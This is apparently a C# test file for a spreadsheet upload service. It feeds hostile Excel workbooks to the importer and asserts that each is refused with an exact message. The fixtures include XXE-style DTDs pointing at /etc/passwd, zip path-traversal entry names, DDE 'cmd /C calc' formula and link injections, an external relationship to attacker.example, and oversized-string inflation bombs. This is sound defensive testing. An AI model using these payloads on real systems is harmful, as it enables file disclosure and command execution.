using System.Text;
using Dapper;
using Scorecard.Data.Catalog;
using Scorecard.Data.Common;
using Scorecard.Data.Returns;
using static Scorecard.Tests.Returns.ReturnFiles;

namespace Scorecard.Tests.Returns;

/// <summary>
/// The hostile workbooks of issue 9 §1: a valid police template with one thing changed, each refused with its exact
/// message and nothing written (the counts of data_return, measure_value and change_log are asserted by RefusedAsync).
/// </summary>
public sealed partial class ReturnUploadCorpusTests
{
    private const string Huge = "79228162514264337593543950335";

    private static (int Row, string Code) CountRow(byte[] template)
    {
        var row = 0;
        var code = CodeAt(template, ws => row = FirstCountRow(ws));
        return (row, code);
    }

    private static (int Row, string Code) RatioRow(byte[] template)
    {
        var row = 0;
        var code = CodeAt(template, ws => row = FirstRatioRow(ws));
        return (row, code);
    }

    private static byte[] WithValue(byte[] filled, string address, string raw) =>
        SetCellXml(filled, ReturnTemplateLayout.ReturnSheet, address, x => $"<{x}v>{raw}</{x}v>");

    // ------------------------------------------------------------------ 1. huge numbers

    [Fact]
    public async Task AHugeCountIsACellErrorInACommitAndInADryRun()
    {
        var (setup, template) = await TemplateAsync();
        var (row, code) = CountRow(template);
        var bytes = WithValue(Fill(template), $"F{row}", Huge);

        var result = await RefusedAsync(bytes, ReturnImportStatus.Invalid);
        var preview = await Imports.PreviewAsync(setup.Police, new ReturnUpload(setup.PoliceId, setup.PeriodId, "r.xlsx", bytes));

        const string message = $"The value {Huge} is larger than Scorecard accepts for a count (at most 10,000,000). Check the figure.";
        Assert.Equal(message, AssertCellError(result, $"F{row}", code, message).Message);
        Assert.Equal(ReturnImportStatus.Invalid, preview.Status);
        Assert.Equal(message, Assert.Single(preview.Errors).Message);
    }

    [Fact]
    public async Task ANumberBeyondTheDecimalRangeIsTooLargeNotText()
    {
        var (_, template) = await TemplateAsync();
        var (row, code) = CountRow(template);
        var result = await RefusedAsync(WithValue(Fill(template), $"F{row}", "1E+300"), ReturnImportStatus.Invalid);
        AssertCellError(result, $"F{row}", code, "The value 1E+300 is larger than Scorecard accepts for a count (at most 10,000,000).");
    }

    [Fact]
    public async Task ANumeratorOverTheCountMaximumIsACellError()
    {
        var (_, template) = await TemplateAsync();
        var (row, code) = RatioRow(template);
        var bytes = Fill(template, ws => ws.Cell(row, ReturnTemplateLayout.NumeratorColumn).Value = 10_000_001);
        var result = await RefusedAsync(bytes, ReturnImportStatus.Invalid);
        AssertCellError(result, $"D{row}", code, "The numerator 10000001 is larger than Scorecard accepts for a count (at most 10,000,000). Check the figure.");
    }

    [Fact]
    public async Task TheMaximumPerUnitIsConfigurable()
    {
        var (setup, template) = await TemplateAsync();
        var (row, code) = CountRow(template);
        var bytes = Fill(template, ws => ws.Cell(row, ReturnTemplateLayout.ValueColumn).Value = 501);
        var imports = new ReturnImportService(db.DataSource, new ReturnUploadOptions(MaxValues: new Dictionary<string, decimal> { [MeasureUnit.Count.ToDb()] = 500m }));

        var result = await imports.PreviewAsync(setup.Police, new ReturnUpload(setup.PoliceId, setup.PeriodId, "r.xlsx", bytes));

        Assert.Equal(ReturnImportStatus.Invalid, result.Status);
        Assert.Contains(result.Errors, e => e.Cell == $"F{row}" && e.MeasureCode == code
            && e.Message == "The value 501 is larger than Scorecard accepts for a count (at most 500). Check the figure.");
    }

    [Fact]
    public async Task AMoveFromATinyPreviousValueWarnsWithoutOverflowing()
    {
        var (setup, template) = await TemplateAsync();
        var (row, code) = CountRow(template);
        await using var conn = await db.DataSource.OpenConnectionAsync();
        const string previousValue = """
            select v.return_id as ReturnId, v.measure_id as MeasureId from measure_value v
            join data_return r on r.partnership_id = v.partnership_id and r.id = v.return_id
            join measure m on m.partnership_id = v.partnership_id and m.id = v.measure_id
            where r.agency_id = @PoliceId and r.period_id = @PreviousPeriodId and r.status = 'accepted' and m.code = @Code
            """;
        var key = await conn.QuerySingleAsync<(long ReturnId, int MeasureId)>(previousValue, new { setup.PoliceId, setup.PreviousPeriodId, Code = code });
        var where = new { key.ReturnId, key.MeasureId };
        var original = await conn.QuerySingleAsync<decimal>("select value from measure_value where return_id = @ReturnId and measure_id = @MeasureId", where);
        await conn.ExecuteAsync("update measure_value set value = 0.0000000000000000000001 where return_id = @ReturnId and measure_id = @MeasureId", where);
        try
        {
            var bytes = Fill(template, ws => ws.Cell(row, ReturnTemplateLayout.ValueColumn).Value = 10_000_000);
            var preview = await Imports.PreviewAsync(setup.Police, new ReturnUpload(setup.PoliceId, setup.PeriodId, "r.xlsx", bytes));

            Assert.Equal(ReturnImportStatus.Previewed, preview.Status);
            Assert.Contains(preview.Rows.Single(r => r.MeasureCode == code).Warnings, w => w.StartsWith("10000000 is up ") && w.Contains("% on last quarter's 0 "));
        }
        finally
        {
            await conn.ExecuteAsync("update measure_value set value = @original where return_id = @ReturnId and measure_id = @MeasureId",
                new { original, key.ReturnId, key.MeasureId });
        }
    }

    // ------------------------------------------------------------------ 2. cell references past Excel's grid

    [Theory]
    [InlineData("FZZZZZZ")]
    [InlineData("XFE")]
    [InlineData("F1048577", false)]
    [InlineData("6F", false)]
    public async Task ACellReferenceOutsideExcelsGridIsACellError(string reference, bool appendRow = true)
    {
        var (_, template) = await TemplateAsync();
        var (row, _) = CountRow(template);
        var bad = appendRow ? $"{reference}{row}" : reference;
        var bytes = ReplacePart(Fill(template), SheetPart(template, ReturnTemplateLayout.ReturnSheet), xml => xml.Replace($" r=\"F{row}\"", $" r=\"{bad}\""));

        var result = await RefusedAsync(bytes, ReturnImportStatus.Invalid);

        var error = Assert.Single(result.Errors);
        Assert.Equal((ReturnTemplateLayout.ReturnSheet, bad), (error.Sheet, error.Cell));
        Assert.Equal($"The cell reference \"{bad}\" is not a cell Excel has (cells run from A1 to XFD1048576), so the file is damaged. " +
            "Download a fresh template, copy your figures in and upload that.", error.Message);
    }

    // ------------------------------------------------------------------ 3. bounded reads

    private static byte[] WithCommentary(byte[] filled, string code, string commentary) =>
        ReplacePart(filled, "xl/sharedStrings.xml", xml => xml.Replace($"Checked by the test for {code}.", commentary, StringComparison.Ordinal));

    [Fact]
    public async Task ALongSharedStringIsKeptOnlyToItsLimitAndItsLengthReported()
    {
        var (_, template) = await TemplateAsync();
        var code = CodeAt(template, _ => FirstRow);
        var bytes = WithCommentary(Fill(template), code, new string('x', 100_000));

        var options = new ReturnUploadOptions();
        using (var package = XlsxPackage.Open(bytes, options))
        {
            var commentary = ReturnWorkbookReader.Read(package, options).Rows.Single(r => r.Code.Text == code).Commentary;
            Assert.Equal(2_001, commentary.Text!.Length);
            Assert.Equal(100_000, commentary.TextLength);
        }
        var result = await RefusedAsync(bytes, ReturnImportStatus.Invalid);
        AssertCellError(result, $"G{FirstRow}", code, "The commentary is 100,000 characters long; the most is 2,000. Shorten it.");
    }

    [Fact]
    public async Task AMillionsOfCharactersSharedStringIsRefusedWhileInflating()
    {
        var (_, template) = await TemplateAsync();
        var bytes = WithCommentary(Fill(template), CodeAt(template, _ => FirstRow), new string('x', 8_000_000));
        Assert.True(bytes.Length < 200_000, "the upload itself is small");
        AssertOnlyError(await RefusedAsync(bytes, ReturnImportStatus.Refused),
            "The part xl/sharedStrings.xml of the file holds more than 1 MB of text or markup in one piece, far more than Excel writes (a cell holds at most 32,767 characters)");
    }

    [Fact]
    public async Task AHugeAttributeIsRefusedWhileInflating()
    {
        var (_, template) = await TemplateAsync();
        var bytes = ReplacePart(Fill(template), "xl/workbook.xml",
            xml => System.Text.RegularExpressions.Regex.Replace(xml, "<((x:)?workbook) ", m => $"<{m.Groups[1].Value} junk=\"{new string('y', 3_000_000)}\" "));
        AssertOnlyError(await RefusedAsync(bytes, ReturnImportStatus.Refused), "The part xl/workbook.xml of the file holds more than 1 MB of text or markup in one piece");
    }

    private static string ExtraSharedStrings(string xml, int count, int length)
    {
        var end = System.Text.RegularExpressions.Regex.Match(xml, "</(x:)?sst>");
        var prefix = end.Groups[1].Value;
        var items = new StringBuilder();
        var text = new string('z', length);
        for (var i = 0; i < count; i++)
            items.Append($"<{prefix}si><{prefix}t>{text}</{prefix}t></{prefix}si>");
        return xml[..end.Index] + items + xml[end.Index..];
    }

    [Fact]
    public async Task TheSharedStringTableIsCappedInCount()
    {
        var (_, template) = await TemplateAsync();
        var bytes = ReplacePart(Fill(template), "xl/sharedStrings.xml", xml => ExtraSharedStrings(xml, 100_001, 1));
        AssertOnlyError(await RefusedAsync(bytes, ReturnImportStatus.Refused), "The workbook holds more than 100,000 pieces of text, far more than any return.");
    }

    [Fact]
    public async Task TheWorkbooksTextIsCappedInTotal()
    {
        var (_, template) = await TemplateAsync();
        var bytes = ReplacePart(Fill(template), "xl/sharedStrings.xml", xml => ExtraSharedStrings(xml, 2_100, 2_000));
        AssertOnlyError(await RefusedAsync(bytes, ReturnImportStatus.Refused), "The workbook holds more than 4,000,000 characters of text, far more than any return.");
    }

    // ------------------------------------------------------------------ 4. refused text is never echoed; the error list is capped

    [Fact]
    public async Task RefusedCommentaryOnAWarnedRowComesBackOnlyAsAShortExcerpt()
    {
        var (setup, template) = await TemplateAsync();
        var (row, code) = CountRow(template);
        var sent = "Start of a very long note. " + new string('w', 100_000);
        var bytes = WithCommentary(Fill(template, ws => ws.Cell(row, ReturnTemplateLayout.ValueColumn).Value = 50_000), code, sent);

        var preview = await Imports.PreviewAsync(setup.Police, new ReturnUpload(setup.PoliceId, setup.PeriodId, "r.xlsx", bytes));

        var warned = preview.Rows.Single(r => r.MeasureCode == code);
        Assert.NotEmpty(warned.Warnings);
        Assert.Equal(sent[..80] + "…", warned.Commentary);
        Assert.All(preview.Errors, e => Assert.True(e.Message.Length < 300, e.Message));
        Assert.Equal("The commentary is 100,027 characters long; the most is 2,000. Shorten it.", Assert.Single(preview.Errors).Message);
    }

    [Fact]
    public async Task AnUnknownCodeIsEchoedOnlyAsAnExcerpt()
    {
        var (_, template) = await TemplateAsync();
        var junk = new string('Q', 1_500);
        var bytes = Fill(template, ws => ws.Cell(FirstRow, ReturnTemplateLayout.CodeColumn).Value = junk);
        var result = await RefusedAsync(bytes, ReturnImportStatus.Invalid);
        var error = result.Errors.Single(e => e.Cell == $"A{FirstRow}");
        Assert.Equal(new string('Q', 80) + "…", error.MeasureCode);
        Assert.Equal($"There is no measure with the code {new string('Q', 80)}…. Use the codes in the template and do not add rows.", error.Message);
    }

    [Fact]
    public async Task TheErrorListIsCappedAt200WithTheTotalCounted()
    {
        var (_, template) = await TemplateAsync();
        var bytes = Fill(template, ws =>
        {
            var first = DataRows(ws).Last() + 1;
            for (var i = 0; i < 19_900; i++)
                ws.Cell(first + i, ReturnTemplateLayout.CodeColumn).Value = $"JUNK-{i}";
        });

        var result = await RefusedAsync(bytes, ReturnImportStatus.Invalid);

        Assert.Equal(200, result.Errors.Count);
        Assert.Equal(19_900, result.ErrorCount);
        Assert.Equal(19_700, result.UnlistedErrorCount);
        Assert.Equal("The return has 19,900 errors to put right: the first 200 are listed, and 19,700 more errors are not shown.", result.Message);
    }

    // ------------------------------------------------------------------ 5. a DTD anywhere in any XML part

    [Fact]
    public async Task ADtdAfterTheFirstKilobyteOfAPartIsRefused()
    {
        var (_, template) = await TemplateAsync();
        var bytes = ReplacePart(Fill(template), "docProps/app.xml", xml =>
        {
            var body = xml[System.Text.RegularExpressions.Regex.Match(xml, "<(\\w+:)?Properties").Index..];
            return "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n<!--" + new string(' ', 1_100) + "-->\n" +
                "<!DOCTYPE Properties SYSTEM \"file:///etc/passwd\">\n" + body;
        });
        AssertOnlyError(await RefusedAsync(bytes, ReturnImportStatus.Refused),
            "The part docProps/app.xml of the file contains a document type declaration (DTD), which Scorecard refuses for safety");
    }

    [Fact]
    public async Task ADtdInAPartNotNamedXmlIsRefused()
    {
        var (_, template) = await TemplateAsync();
        var bytes = AddEntry(Fill(template), "customXml/item1.dat", "<!DOCTYPE x SYSTEM \"file:///etc/passwd\"><x/>");
        AssertOnlyError(await RefusedAsync(bytes, ReturnImportStatus.Refused),
            "The part customXml/item1.dat of the file contains a document type declaration (DTD)");
    }

    // ------------------------------------------------------------------ 6. zip entry names

    [Theory]
    [InlineData("../../evil.txt", "has a \".\" or \"..\" segment (a path that leaves its folder)")]
    [InlineData("xl/./evil.txt", "has a \".\" or \"..\" segment (a path that leaves its folder)")]
    [InlineData("/abs/evil.txt", "starts with \"/\" (an absolute path)")]
    [InlineData("..\\..\\evil-win.txt", "contains a backslash (a Windows path)")]
    [InlineData("C:/evil.txt", "starts with a drive letter (an absolute path)")]
    [InlineData("xl/bad name.xml", "is not a valid part name")]
    [InlineData("xl/ends-with-a-dot.", "is not a valid part name")]
    [InlineData("xl//double.xml", "is not a valid part name")]
    public async Task AnUnsafeEntryNameIsRefused(string name, string reason)
    {
        var (_, template) = await TemplateAsync();
        var result = await RefusedAsync(AddEntry(Fill(template), name, "evil"), ReturnImportStatus.Refused);
        AssertOnlyError(result, $"The file contains an entry named \"{name}\", which {reason}");
    }

    [Fact]
    public async Task ADuplicatedEntryIsRefused()
    {
        var (_, template) = await TemplateAsync();
        var result = await RefusedAsync(AddEntry(Fill(template), "xl/workbook.xml", "<workbook/>"), ReturnImportStatus.Refused);
        AssertOnlyError(result, "The file contains two entries named \"xl/workbook.xml\". A workbook has each part once.");
    }

    [Fact]
    public async Task AnEntryDifferingOnlyInCapitalsIsRefused()
    {
        var (_, template) = await TemplateAsync();
        var result = await RefusedAsync(AddEntry(Fill(template), "XL/Workbook.xml", "<workbook/>"), ReturnImportStatus.Refused);
        AssertOnlyError(result, "The file contains entries named \"xl/workbook.xml\" and \"XL/Workbook.xml\", which differ only in capitals and so name the same part.");
    }

    [Fact]
    public async Task ATemplateRewrittenAsAPlainZipIsStillAccepted()
    {
        var (setup, template) = await TemplateAsync();
        var bytes = WithExtraField(Fill(template), "none", []);
        var preview = await Imports.PreviewAsync(setup.Police, new ReturnUpload(setup.PoliceId, setup.PeriodId, "r.xlsx", bytes));
        Assert.Equal(ReturnImportStatus.Previewed, preview.Status);
    }

    [Fact]
    public async Task AnEntryWithASecondUnicodePathNameIsRefused()
    {
        var (_, template) = await TemplateAsync();
        var bytes = WithExtraField(Fill(template), "docProps/app.xml", UnicodePathField("../../evil.xml", "docProps/app.xml"));
        AssertOnlyError(await RefusedAsync(bytes, ReturnImportStatus.Refused),
            "The file gives an entry a second, different name (a zip \"Unicode path\" field), which Excel never writes and some unzip tools obey.");
    }

    [Theory]
    [InlineData("xl/embeddings/oleObject1.bin")]
    [InlineData("xl/activeX/activeX1.xml")]
    public async Task EmbeddedObjectsAndActiveXAreRefused(string name)
    {
        var (_, template) = await TemplateAsync();
        AssertOnlyError(await RefusedAsync(AddEntry(Fill(template), name, "<x/>"), ReturnImportStatus.Refused),
            "The workbook links to other files or programs (external links, DDE, Excel 4.0 macro sheets, embedded objects or ActiveX controls)");
    }

    [Fact]
    public async Task ADefinedNameCallingAProgramIsRefused()
    {
        var (_, template) = await TemplateAsync();
        var bytes = ReplacePart(Fill(template), "xl/workbook.xml", xml => System.Text.RegularExpressions.Regex.Replace(xml, "</((x:)?sheets)>",
            m => $"</{m.Groups[1].Value}><{m.Groups[2].Value}definedNames><{m.Groups[2].Value}definedName name=\"fine\">Return!$A$1</{m.Groups[2].Value}definedName><{m.Groups[2].Value}definedName name=\"run\">cmd|' /C calc'!A0</{m.Groups[2].Value}definedName></{m.Groups[2].Value}definedNames>"));
        AssertOnlyError(await RefusedAsync(bytes, ReturnImportStatus.Refused), "The workbook links to other files or programs");
    }

    [Fact]
    public async Task AnExternalRelationshipOtherThanAHyperlinkIsRefused()
    {
        var (_, template) = await TemplateAsync();
        var bytes = ReplacePart(Fill(template), "xl/_rels/workbook.xml.rels", xml => xml.Replace("</Relationships>",
            "<Relationship Id=\"rIdEvil\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/oleObject\" " +
            "Target=\"file://attacker.example/share/x\" TargetMode=\"External\"/></Relationships>", StringComparison.Ordinal));
        AssertOnlyError(await RefusedAsync(bytes, ReturnImportStatus.Refused), "The workbook links to other files or programs");
    }

    // ------------------------------------------------------------------ 7. formulas

    [Fact]
    public async Task ADdeFormulaWithACachedValueInAnInputCellIsACellError()
    {
        var (_, template) = await TemplateAsync();
        var (row, code) = CountRow(template);
        var bytes = SetCellXml(Fill(template), ReturnTemplateLayout.ReturnSheet, $"F{row}", x => $"<{x}f>cmd|' /C calc'!A0</{x}f><{x}v>12</{x}v>");
        var result = await RefusedAsync(bytes, ReturnImportStatus.Invalid);
        AssertCellError(result, $"F{row}", code, $"F{row} holds a formula. Type the figure or text itself: Scorecard does not accept formulas in a return");
    }

    [Fact]
    public async Task AFormulaInTheCommentaryIsACellError()
    {
        var (_, template) = await TemplateAsync();
        var bytes = Fill(template, ws => ws.Cell(FirstRow, ReturnTemplateLayout.CommentaryColumn).FormulaA1 = "HYPERLINK(\"http://example.com\",\"see\")");
        var result = await RefusedAsync(bytes, ReturnImportStatus.Invalid);
        var error = Assert.Single(result.Errors);
        Assert.Equal((ReturnTemplateLayout.ReturnSheet, $"G{FirstRow}"), (error.Sheet, error.Cell));
        Assert.StartsWith($"G{FirstRow} holds a formula.", error.Message);
    }

    [Fact]
    public async Task AFormulaOnTheInstructionsSheetIsRefused()
    {
        var (_, template) = await TemplateAsync();
        var bytes = Fill(template, ws => ws.Workbook.Worksheet(ReturnTemplateLayout.InstructionsSheet).Cell(20, 1).FormulaA1 = "1+1");
        var result = await RefusedAsync(bytes, ReturnImportStatus.Invalid);
        var error = Assert.Single(result.Errors);
        Assert.Equal((ReturnTemplateLayout.InstructionsSheet, "A20"), (error.Sheet, error.Cell));
        Assert.StartsWith("A20 holds a formula.", error.Message);
    }

    [Fact]
    public async Task AnotherFormulaInARatiosValueCellIsACellError()
    {
        var (_, template) = await TemplateAsync();
        var (row, code) = RatioRow(template);
        var bytes = Fill(template, ws => ws.Cell(row, ReturnTemplateLayout.ValueColumn).FormulaA1 = $"D{row}*2");
        var result = await RefusedAsync(bytes, ReturnImportStatus.Invalid);
        AssertCellError(result, $"F{row}", code, $"F{row} holds a formula that is not the template's own.");
    }

    [Fact]
    public async Task AWorkbookLinkingToAProgramIsRefused()
    {
        var (_, template) = await TemplateAsync();
        var bytes = AddEntry(Fill(template), "xl/externalLinks/externalLink1.xml",
            "<externalLink xmlns=\"http://schemas.openxmlformats.org/spreadsheetml/2006/main\"><ddeLink ddeService=\"cmd\" ddeTopic=\"/c calc\"/></externalLink>");
        AssertOnlyError(await RefusedAsync(bytes, ReturnImportStatus.Refused), "The workbook links to other files or programs (external links, DDE, Excel 4.0 macro sheets");
    }

    // ------------------------------------------------------------------ 8. sizes and dates

    [Fact]
    public async Task AFileWellOverTheLimitSaysItsSize()
    {
        var result = await RefusedAsync(new byte[6 * 1024 * 1024], ReturnImportStatus.TooLarge);
        AssertOnlyError(result, "The file is 6 MB, larger than the 5 MB Scorecard accepts.");
    }

    [Fact]
    public async Task ADateInACountCellIsACellError()
    {
        var (_, template) = await TemplateAsync();
        var (row, code) = CountRow(template);
        var bytes = Fill(template, ws => ws.Cell(row, ReturnTemplateLayout.ValueColumn).Value = new DateTime(2025, 7, 1));
        var result = await RefusedAsync(bytes, ReturnImportStatus.Invalid);
        AssertCellError(result, $"F{row}", code, "The value is formatted as a date, so Excel saved it as a date's serial number (45839), not the figure typed.");
    }

    [Fact]
    public async Task ANumberWithACustomDateFormatIsACellError()
    {
        var (_, template) = await TemplateAsync();
        var (row, code) = RatioRow(template);
        var bytes = Fill(template, ws => ws.Cell(row, ReturnTemplateLayout.DenominatorColumn).Style.NumberFormat.Format = "dd/mm/yyyy");
        var result = await RefusedAsync(bytes, ReturnImportStatus.Invalid);
        AssertCellError(result, $"E{row}", code, "The denominator is formatted as a date");
    }

    [Theory]
    [InlineData("dd/mm/yyyy", true)]
    [InlineData("[$-F800]dddd\\,\\ mmmm\\ dd\\,\\ yyyy", true)]
    [InlineData("h:mm AM/PM", true)]
    [InlineData("[h]:mm:ss", true)]
    [InlineData("0", false)]
    [InlineData("#,##0.00", false)]
    [InlineData("0 \"days\"", false)]
    [InlineData("[Red]0.0;[Blue]-0.0", false)]
    [InlineData("0\\d", false)]
    [InlineData("General", false)]
    [InlineData("0.00E+00", false)]
    public void DateFormatsAreToldByTheirCodesOutsideQuotesAndBrackets(string code, bool isDate) =>
        Assert.Equal(isDate, ReturnWorkbookReader.IsDateFormat(code));
}
